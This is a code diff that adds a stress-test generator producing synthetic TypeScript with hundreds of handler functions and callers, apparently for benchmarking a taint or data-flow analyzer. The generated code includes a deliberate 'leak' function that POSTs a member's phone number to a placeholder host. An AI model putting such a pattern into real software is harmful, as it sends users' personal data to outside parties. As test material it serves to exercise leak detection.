@@ -28,6 +28,7 @@ export const worstCases = [
   { name: 'sinks in one wrapper', size: 2000, make: manySinks },
   { name: 'functions that call each other', size: 60, make: tangle },
   { name: 'one interface, many classes', size: 60, make: oneInterface },
+  { name: 'a table for each caller', size: 1000, make: tableForEach },
 ];
 
 /** Sixteen wrappers around one sink, and `size` callers of each. */
@@ -157,6 +158,32 @@ export const tell${n} = (member: Member): Promise<void> => new Service${n}(new S
   read(id: string): Promise<string>;
 }
 ${services.join('\n')}
+`,
+  });
+}
+
+/** `size` callers of one function that calls something in the table that it is given: more than 300 functions, and the caller's own. */
+function tableForEach(size) {
+  const handlers = list(320, (n) => `  event${n}: (member: Member): string => member.name + '${n}',`);
+  const callers = list(
+    size,
+    (n) => `export function caller${n}(event: string, member: Member): string {
+  return run({ ...handlers, own${n}: () => '${n}' }, event, member);
+}
+export const told${n} = (event: string, member: Member): Promise<Response> =>
+  fetch('https://gateway.example/${n}', { method: 'POST', body: caller${n}(event, member) });`,
+  );
+  return program({
+    'tables.ts': `${header}type Handlers = Record<string, (member: Member) => string>;
+const handlers: Handlers = {
+${handlers.join('\n')}
+};
+function run(table: Handlers, event: string, member: Member): string {
+  return table[event]?.(member) ?? '';
+}
+${callers.join('\n')}
+export const leak = (event: string, member: Member): Promise<Response> =>
+  fetch('https://${host}/', { method: 'POST', body: caller0(event, member) + member.phone });
 `,
   });
 }
